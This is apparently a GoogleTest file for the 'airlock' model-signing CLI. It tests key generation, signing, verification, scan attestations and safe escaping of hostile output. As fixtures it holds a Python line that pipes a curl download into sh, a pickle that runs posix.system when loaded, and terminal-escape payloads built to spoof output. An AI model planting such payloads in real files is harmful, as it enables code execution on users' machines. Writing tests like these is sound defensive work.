// `airlock keygen` -> `airlock sign` -> `airlock verify` through the real binary, with the exit
// codes documented in --help (0 verified, 1 verification failed, 3 usage/tool error).
#include <gtest/gtest.h>
#include <sys/wait.h>

#include <cstdio>
#include <filesystem>
#include <string>

#include "sign/sign.h"
#include "sign_test_util.h"
#include "test_util.h"

namespace {

namespace fs = std::filesystem;
using airlock::sign::testing::ReadText;
using airlock::sign::testing::WriteText;

struct CliRun {
  int code = -1;
  std::string out;
};

CliRun Airlock(const std::string& args) {
  auto [code, out] = airlock::testing::RunAirlock(args);
  return {code, out};
}

TEST(SignCliTest, KeygenSignVerifyRoundTrip) {
  airlock::testing::TempDir tmp("cli");
  fs::path dir = tmp.path();
  fs::path model = dir / "tiny-model";
  WriteText(model / "config.json", "{\"arch\": \"llama\"}");
  WriteText(model / "weights" / "model.safetensors", std::string(5000, 'w'));
  WriteText(model / ".git" / "HEAD", "ref: refs/heads/main");

  CliRun keygen = Airlock("keygen --curve p384 --out " + (dir / "k").string());
  ASSERT_EQ(keygen.code, 0) << keygen.out;
  EXPECT_NE(ReadText(dir / "k.key").find("BEGIN PRIVATE KEY"), std::string::npos);
  EXPECT_NE(ReadText(dir / "k.pub").find("BEGIN PUBLIC KEY"), std::string::npos);
  EXPECT_EQ(fs::status(dir / "k.key").permissions() & fs::perms::group_read, fs::perms::none);
  EXPECT_EQ(Airlock("keygen --out " + (dir / "k").string()).code, 3);  // no silent overwrite

  CliRun sign = Airlock("sign " + model.string() + " --key " + (dir / "k.key").string());
  ASSERT_EQ(sign.code, 0) << sign.out;
  EXPECT_TRUE(fs::exists(model / "model.sig"));
  EXPECT_NE(sign.out.find("2 files"), std::string::npos) << sign.out;

  CliRun ok = Airlock("verify " + model.string() + " --key " + (dir / "k.pub").string());
  EXPECT_EQ(ok.code, 0) << ok.out;
  EXPECT_NE(ok.out.find("OK: verified 2 files"), std::string::npos) << ok.out;

  CliRun json =
      Airlock("verify " + model.string() + " --format json --key " + (dir / "k.pub").string());
  EXPECT_EQ(json.code, 0);
  EXPECT_NE(json.out.find("\"verified\": true"), std::string::npos) << json.out;

  WriteText(model / "config.json", "{\"arch\": \"evil\"}");
  CliRun bad = Airlock("verify " + model.string() + " --key " + (dir / "k.pub").string());
  EXPECT_EQ(bad.code, 1) << bad.out;
  EXPECT_NE(bad.out.find("modified: config.json"), std::string::npos) << bad.out;

  // Usage and tool errors exit 3.
  EXPECT_EQ(Airlock("verify " + model.string()).code, 3);
  EXPECT_EQ(Airlock("verify " + model.string() + " --key " + (dir / "nope.pub").string()).code, 3);
  EXPECT_EQ(
      Airlock("verify " + (dir / "no-model").string() + " --key " + (dir / "k.pub").string()).code,
      3);
  EXPECT_EQ(Airlock("sign " + model.string() + " --key " + (dir / "k.pub").string()).code, 3);
  EXPECT_EQ(Airlock("verify --bogus-flag").code, 3);
}

TEST(SignCliTest, SingleFileModelUsesSiblingSignature) {
  airlock::testing::TempDir tmp("cli1");
  fs::path dir = tmp.path();
  WriteText(dir / "model.gguf", "GGUF....");
  ASSERT_EQ(Airlock("keygen --out " + (dir / "k").string()).code, 0);
  CliRun sign =
      Airlock("sign " + (dir / "model.gguf").string() + " --key " + (dir / "k.key").string());
  ASSERT_EQ(sign.code, 0) << sign.out;
  EXPECT_TRUE(fs::exists(dir / "model.gguf.sig"));
  EXPECT_EQ(
      Airlock("verify " + (dir / "model.gguf").string() + " --key " + (dir / "k.pub").string())
          .code,
      0);
}

TEST(SignCliTest, ScanAttestationVerifiesUntilTheModelChanges) {
  airlock::testing::TempDir tmp("cliatt");
  fs::path dir = tmp.path();
  fs::path model = dir / "m";
  WriteText(model / "config.json", "{\"a\": 1}");
  ASSERT_EQ(Airlock("keygen --out " + (dir / "k").string()).code, 0);
  CliRun scan = Airlock("scan " + model.string() + " --attest " + (dir / "k.key").string());
  ASSERT_NE(scan.code, 3) << scan.out;
  fs::path att = dir / "m.scan-attestation.json";
  ASSERT_TRUE(fs::exists(att)) << scan.out;
  std::string verify = "verify " + model.string() + " --key " + (dir / "k.pub").string() +
                       " --attestation " + att.string();
  CliRun ok = Airlock(verify + " --format json");
  EXPECT_EQ(ok.code, 0) << ok.out;
  EXPECT_NE(ok.out.find("https://airlock.dev/attestations/scan/v1"), std::string::npos);
  EXPECT_NE(ok.out.find("\"verdict\""), std::string::npos);
  WriteText(model / "extra.bin", "x");
  CliRun changed = Airlock(verify);
  EXPECT_EQ(changed.code, 1) << changed.out;
  EXPECT_NE(changed.out.find("extra:    extra.bin"), std::string::npos) << changed.out;
}

std::string FirstLine(const std::string& text) { return text.substr(0, text.find('\n')); }

// A model folder and a scanner key pair in a temp folder, with helpers to attest and verify.
class AttestationCliTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = tmp_.path();
    model_ = dir_ / "model";
    ASSERT_EQ(Airlock("keygen --out " + (dir_ / "k").string()).code, 0);
  }
  CliRun Scan(const fs::path& model) {
    return Airlock("scan " + model.string() + " --attest " + (dir_ / "k.key").string() +
                   " --attestation-out " + Att().string());
  }
  CliRun Verify(const fs::path& model, const std::string& extra = "") {
    return Airlock("verify " + model.string() + " --key " + (dir_ / "k.pub").string() +
                   " --attestation " + Att().string() + " " + extra);
  }
  // Signs an arbitrary predicate about `model` with the scanner key (what another tool, an
  // older Airlock or a compromised pipeline could hand over).
  void AttestWith(const fs::path& model, const std::string& type, const std::string& predicate) {
    airlock::sign::SigningKey key;
    key.private_key_path = (dir_ / "k.key").string();
    auto bundle = airlock::sign::AttestModel(model.string(), {}, type, predicate, key);
    ASSERT_TRUE(bundle.has_value()) << bundle.error().message();
    WriteText(Att(), *bundle);
  }
  fs::path Att() const { return dir_ / "attestation.json"; }

  airlock::testing::TempDir tmp_{"cliatt2"};
  fs::path dir_, model_;
};

TEST_F(AttestationCliTest, RenamedFileFailsNamingTheFile) {
  // Clean as notes, but Python that transformers would import once it is named modeling_*.py.
  WriteText(model_ / "config.json", "{\"architectures\": [\"LlamaForCausalLM\"]}");
  WriteText(model_ / "notes.txt", "import os\nos.system(\"curl https://example.com/x | sh\")\n");
  CliRun scan = Scan(model_);
  ASSERT_EQ(scan.code, 0) << scan.out;
  CliRun ok = Verify(model_);
  EXPECT_EQ(ok.code, 0) << ok.out;
  EXPECT_EQ(FirstLine(ok.out).rfind("OK: verdict clean: ", 0), 0u) << ok.out;

  fs::rename(model_ / "notes.txt", model_ / "modeling_llama.py");  // same bytes, same digest
  CliRun renamed = Verify(model_);
  EXPECT_EQ(renamed.code, 1) << renamed.out;
  EXPECT_EQ(FirstLine(renamed.out).rfind("FAILED (model-mismatch)", 0), 0u) << renamed.out;
  EXPECT_NE(renamed.out.find("missing:  notes.txt"), std::string::npos) << renamed.out;
  EXPECT_NE(renamed.out.find("extra:    modeling_llama.py"), std::string::npos) << renamed.out;
}

TEST_F(AttestationCliTest, SingleFileAttestationDoesNotVerifyAFolderWithTheSameBytes) {
  fs::path file = dir_ / "weights.safetensors";
  WriteText(file, std::string(64, 'w'));
  ASSERT_EQ(Scan(file).code, 0);
  EXPECT_EQ(Verify(file).code, 0);
  fs::path folder = dir_ / "folder";
  WriteText(folder / "weights.safetensors", std::string(64, 'w'));  // same root digest
  CliRun r = Verify(folder);
  EXPECT_EQ(r.code, 1) << r.out;
  EXPECT_NE(r.out.find("a single file"), std::string::npos) << r.out;
  // And a folder attestation does not verify the lone file.
  ASSERT_EQ(Scan(folder).code, 0);
  CliRun as_file = Verify(folder / "weights.safetensors");
  EXPECT_EQ(as_file.code, 1) << as_file.out;
}

TEST_F(AttestationCliTest, ReleaseSignatureIsNotAScanAttestation) {
  WriteText(model_ / "config.json", "{}");
  ASSERT_EQ(Airlock("sign " + model_.string() + " --key " + (dir_ / "k.key").string()).code, 0);
  CliRun r = Airlock("verify " + model_.string() + " --key " + (dir_ / "k.pub").string() +
                     " --attestation " + (model_ / "model.sig").string());
  EXPECT_EQ(r.code, 1) << r.out;
  EXPECT_EQ(FirstLine(r.out).rfind("FAILED (wrong-predicate-type)", 0), 0u) << r.out;
  EXPECT_NE(r.out.find("model signature"), std::string::npos) << r.out;
}

TEST_F(AttestationCliTest, AssessmentAttestationIsNotAScanAttestation) {
  WriteText(model_ / "config.json", "{}");
  AttestWith(model_, airlock::sign::kAssessmentAttestationType, R"({"report_sha256":"ab"})");
  CliRun as_scan = Verify(model_);
  EXPECT_EQ(as_scan.code, 1) << as_scan.out;
  EXPECT_EQ(FirstLine(as_scan.out).rfind("FAILED (wrong-predicate-type)", 0), 0u) << as_scan.out;
  CliRun asked = Verify(model_, "--predicate-type assessment");
  EXPECT_EQ(asked.code, 0) << asked.out;
  EXPECT_EQ(FirstLine(asked.out).rfind("OK: attestation https://airlock.dev/assessment/v1", 0), 0u)
      << asked.out;
  // An assessment has no verdict: requiring one fails instead of passing vacuously.
  EXPECT_EQ(Verify(model_, "--predicate-type assessment --require-verdict clean").code, 1);
  EXPECT_EQ(Verify(model_, "--predicate-type bogus").code, 3);
}

TEST_F(AttestationCliTest, MaliciousVerdictNeverReadsOk) {
  // A pickle that calls posix.system("echo") when loaded: scan calls it malicious.
  WriteText(model_ / "model.pkl", std::string("\x80\x02"
                                              "cposix\nsystem\nq\x00X\x04\x00\x00\x00"
                                              "echoq\x01\x85q\x02Rq\x03.",
                                              35));
  CliRun scan = Scan(model_);
  ASSERT_EQ(scan.code, 1) << scan.out;
  ASSERT_TRUE(fs::exists(Att()));
  CliRun by_default = Verify(model_);
  EXPECT_EQ(by_default.code, 1) << by_default.out;
  EXPECT_EQ(FirstLine(by_default.out)
                .rfind("FAILED (verdict-not-accepted): verdict malicious (required: clean)", 0),
            0u)
      << by_default.out;
  EXPECT_EQ(by_default.out.find("OK"), std::string::npos) << by_default.out;
  CliRun json = Verify(model_, "--format json");
  EXPECT_EQ(json.code, 1);
  EXPECT_NE(json.out.find("\"verdict\": \"malicious\""), std::string::npos) << json.out;
  EXPECT_EQ(Verify(model_, "--require-verdict clean,inconclusive").code, 1);
  // Asked for explicitly, it passes, and still does not say OK.
  CliRun any = Verify(model_, "--require-verdict any");
  EXPECT_EQ(any.code, 0) << any.out;
  EXPECT_EQ(FirstLine(any.out).rfind("VERIFIED, VERDICT malicious (not clean)", 0), 0u) << any.out;
  EXPECT_EQ(any.out.find("OK"), std::string::npos) << any.out;
  EXPECT_EQ(Verify(model_, "--require-verdict malicious").code, 0);
  EXPECT_EQ(Verify(model_, "--require-verdict safe").code, 3);
  // A model signature has no verdict: asking for one there is a usage error, not a silent pass.
  EXPECT_EQ(Airlock("verify " + model_.string() + " --key " + (dir_ / "k.pub").string() +
                    " --require-verdict clean")
                .code,
            3);
}

TEST_F(AttestationCliTest, AttestationWithoutResourceListFailsClosed) {
  // What earlier builds wrote: the verdict over the root digest, no file names.
  WriteText(model_ / "config.json", "{}");
  auto digest = airlock::sign::ComputeModelDigest(model_.string(), {});
  ASSERT_TRUE(digest.has_value());
  auto statement =
      airlock::sign::MakeStatement(digest->name, digest->root_digest,
                                   airlock::sign::kScanAttestationType, R"({"verdict":"clean"})");
  ASSERT_TRUE(statement.has_value());
  airlock::sign::SigningKey key;
  key.private_key_path = (dir_ / "k.key").string();
  auto bundle = airlock::sign::SignStatement(*statement, key);
  ASSERT_TRUE(bundle.has_value());
  WriteText(Att(), *bundle);
  CliRun r = Verify(model_, "--require-verdict any");
  EXPECT_EQ(r.code, 1) << r.out;
  EXPECT_EQ(FirstLine(r.out).rfind("FAILED (unsupported)", 0), 0u) << r.out;
  EXPECT_NE(r.out.find("lists no resources"), std::string::npos) << r.out;
}

TEST_F(AttestationCliTest, HostileNamesAndVerdictsAreEscaped) {
  WriteText(model_ / "config.json", "{}");
  AttestWith(model_, airlock::sign::kScanAttestationType,
             R"({"verdict":"clean\u001b[2J\u001b]0;pwned\u0007"})");
  CliRun verdict = Verify(model_);
  EXPECT_EQ(verdict.code, 1) << verdict.out;  // not "clean"
  EXPECT_EQ(verdict.out.find('\x1b'), std::string::npos) << verdict.out;
  EXPECT_NE(verdict.out.find("clean\\x1b[2J"), std::string::npos) << verdict.out;

  AttestWith(model_, airlock::sign::kScanAttestationType, R"({"verdict":"clean"})");
  WriteText(model_ / "evil\x1b[1;1H\rOK: all good\x1b[K", "x");
  CliRun extra = Verify(model_);
  EXPECT_EQ(extra.code, 1) << extra.out;
  EXPECT_EQ(extra.out.find('\x1b'), std::string::npos) << extra.out;
  EXPECT_EQ(extra.out.find('\r'), std::string::npos) << extra.out;
  EXPECT_NE(extra.out.find("extra:    evil\\x1b[1;1H\\rOK: all good\\x1b[K"), std::string::npos)
      << extra.out;
}

TEST(SignCliTest, AtSigningTimeVerifiesTheCertificateVectorWithAWarningAfterTheOutcome) {
  AIRLOCK_FIXTURES_OR_SKIP(fixtures, "model-signing");
  fs::path tests = fixtures / "scripts/tests";
  std::string base = "verify " + (tests / "v1.1.0-certificate").string() + " --signature " +
                     (tests / "v1.1.0-certificate/model.sig").string() + " --certificate-chain " +
                     (tests / "keys/certificate/ca-cert.pem").string() + " --ignore-paths " +
                     (tests / "v1.1.0-certificate/ignore-me").string();
  CliRun now = Airlock(base);
  EXPECT_EQ(now.code, 0) << now.out;
  EXPECT_EQ(now.out.find("warning"), std::string::npos) << now.out;
  CliRun archived = Airlock(base + " --at-signing-time");
  EXPECT_EQ(archived.code, 0) << archived.out;
  EXPECT_EQ(FirstLine(archived.out).rfind("OK: verified", 0), 0u) << archived.out;
  EXPECT_NE(archived.out.find("warning: certificate validity checked at the signing "
                              "certificate's notBefore"),
            std::string::npos)
      << archived.out;
}

TEST(SignCliTest, HelpDocumentsExitCodes) {
  CliRun help = Airlock("verify --help");
  EXPECT_EQ(help.code, 0);
  EXPECT_NE(help.out.find("Exit codes: 0 verified; 1 verification failed"), std::string::npos);
  EXPECT_NE(Airlock("sign --help").out.find("Example"), std::string::npos);
  EXPECT_NE(Airlock("keygen --help").out.find("Example"), std::string::npos);
}

TEST(SignCliTest, VerifiesTheModelSigningVectorLikeItsTestScript) {
  AIRLOCK_FIXTURES_OR_SKIP(fixtures, "model-signing");
  fs::path tests = fixtures / "scripts/tests";
  // scripts/tests/test-verify-v1.1.0-elliptic-key.sh, with Airlock's flag names.
  std::string cmd = "cd " + tests.string() +
                    " && " AIRLOCK_EXE
                    " verify ./v1.1.0-elliptic-key --signature "
                    "./v1.1.0-elliptic-key/model.sig --public-key "
                    "keys/certificate/signing-key-pub.pem --ignore-paths "
                    "./v1.1.0-elliptic-key/ignore-me";
  int status = std::system(cmd.c_str());
  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0);
}

}  // namespace
